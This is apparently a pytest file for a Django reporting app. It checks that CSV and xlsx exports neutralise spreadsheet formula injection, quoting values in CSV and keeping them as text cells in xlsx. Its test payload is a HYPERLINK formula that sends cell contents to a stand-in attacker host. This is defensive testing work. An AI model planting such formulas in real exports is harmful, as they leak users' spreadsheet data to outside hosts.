"""Text that a spreadsheet would run as a formula (OWASP CSV injection) leaves the
exports neutralised: a quote in front in CSV, a text cell in xlsx; numbers stay
numbers."""

import pytest

from provinces.models import Unit
from reports.formulas import csv_text
from tests.reports.helpers import csv_frame, workbook

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Bắc Giang")'


@pytest.fixture
def evil_name() -> str:
    unit = Unit.objects.get(slug="bac-giang")
    unit.name = EVIL
    unit.save()
    return EVIL


@pytest.mark.parametrize("url", ["/bao-cao/tinh/bac-giang.xlsx", "/bao-cao/toan-bo.xlsx?year=2022"])
def test_no_formula_reaches_an_xlsx_export(client, evil_name, url):
    wb = workbook(client.get(url))
    seen, numbers = [], 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value == evil_name:
                    assert cell.data_type == "s" and cell.quotePrefix
                    seen.append(ws.title)
                numbers += isinstance(cell.value, float)
    assert "Dữ liệu" in seen and numbers > 0


def test_no_formula_reaches_a_csv_export(client, evil_name):
    frame = csv_frame(client.get("/bao-cao/toan-bo.csv?year=2022"))
    names = set(frame["unit_name"])
    assert "'" + evil_name in names and evil_name not in names
    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in frame.stack())
    assert frame["value"].dtype == float


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_start_is_quoted_in_csv(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, -3, 0.25, None, "Hà Giang", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert csv_text(value) == value
